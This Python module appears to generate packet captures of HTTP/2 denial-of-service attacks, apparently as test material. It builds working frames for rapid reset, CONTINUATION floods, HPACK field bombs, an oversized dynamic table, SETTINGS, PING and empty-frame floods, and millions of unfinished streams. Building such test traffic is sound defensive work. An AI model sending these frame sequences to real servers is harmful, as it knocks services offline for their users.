"""Attacks on HTTP/2: floods of frames, and field blocks that stand for far more than they are."""

import struct

from packets import *

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PUSH, PING, CONTINUATION = 0, 1, 3, 4, 5, 6, 9
END_STREAM, END_HEADERS = 1, 4
# :method GET, :scheme http, :path / of the static table.
REQUEST = b"\x82\x86\x84"


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def prefixed(first, bits, value):
    """An integer with a prefix (RFC 7541 5.1)."""
    limit = (1 << bits) - 1
    if value < limit:
        return bytes([first | value])
    coded, value = bytes([first | limit]), value - limit
    while value >= 128:
        coded, value = coded + bytes([value & 127 | 128]), value >> 7
    return coded + bytes([value])


def literal(name, value, is_indexed=False):
    """A field in full, which goes into the dynamic table or not."""

    def text(octets):
        return prefixed(0, 7, len(octets)) + octets

    return (b"\x40" if is_indexed else b"\x00") + text(name) + text(value)


def flood(capture, frames):
    connection = Connection(capture)
    connection.stream("c", PREFACE + frame(SETTINGS))
    connection.stream("s", frame(SETTINGS) + frame(SETTINGS, 1))
    connection.stream("c", frame(SETTINGS, 1) + frames)
    connection.close()


def http2_rapid_reset(capture):
    flood(capture, b"".join(
        frame(HEADERS, END_STREAM | END_HEADERS, stream, REQUEST) + frame(RESET, 0, stream, bytes(4))
        for stream in range(1, 601, 2)))


def http2_continuations(capture):
    parts = b"".join(frame(CONTINUATION, 0, 1, b"\x84" * 100) for _ in range(200))
    flood(capture, frame(HEADERS, END_STREAM, 1, REQUEST) + parts)


def http2_field_bomb(capture):
    block = REQUEST + literal(b"x", b"v" * 4000, is_indexed=True) + b"\xbe" * 12000
    flood(capture, frame(HEADERS, END_STREAM | END_HEADERS, 1, block))


def http2_settings_flood(capture):
    flood(capture, frame(SETTINGS, 0, 0, struct.pack(">HI", 1, 4096)) * 300)


def http2_ping_flood(capture):
    flood(capture, frame(PING, 0, 0, bytes(8)) * 300)


def http2_empty_frames(capture):
    flood(capture, frame(HEADERS, END_HEADERS, 1, REQUEST) + frame(DATA, 0, 1) * 300)


def http2_huge_table(capture):
    """A table of 1 GiB is allowed and announced; fields of it are sent and named again."""
    connection = Connection(capture)
    connection.stream("c", PREFACE + frame(SETTINGS))
    connection.stream("s", frame(SETTINGS, 0, 0, struct.pack(">HI", 1, 1 << 30)))
    size = b"\x3f" + bytes([0xE1 & 0xFF, 0xFF, 0xFF, 0xFF, 0x03])
    fields = b"".join(literal(b"x", str(number).encode() + b"v" * 100, is_indexed=True) for number in range(1000))
    block = size + REQUEST + fields
    frames = frame(HEADERS, END_STREAM, 1, block[:16000])
    rest = block[16000:]
    while rest:
        piece, rest = rest[:16000], rest[16000:]
        frames += frame(CONTINUATION, 0 if rest else END_HEADERS, 1, piece)
    # The newest of them, and the oldest.
    frames += frame(HEADERS, END_STREAM | END_HEADERS, 3, REQUEST + b"\xbe" + b"\xff\xa6\x07")
    connection.stream("c", frame(SETTINGS, 1) + frames)
    connection.close()


def http2_streams_without_end(capture):
    flood(capture, b"".join(
        frame(HEADERS, END_HEADERS, stream, REQUEST) for stream in range(1, 2_000_001, 2)))


SMALL = [
    http2_rapid_reset, http2_continuations, http2_field_bomb, http2_settings_flood, http2_ping_flood,
    http2_empty_frames, http2_huge_table,
]
LARGE = [http2_streams_without_end]
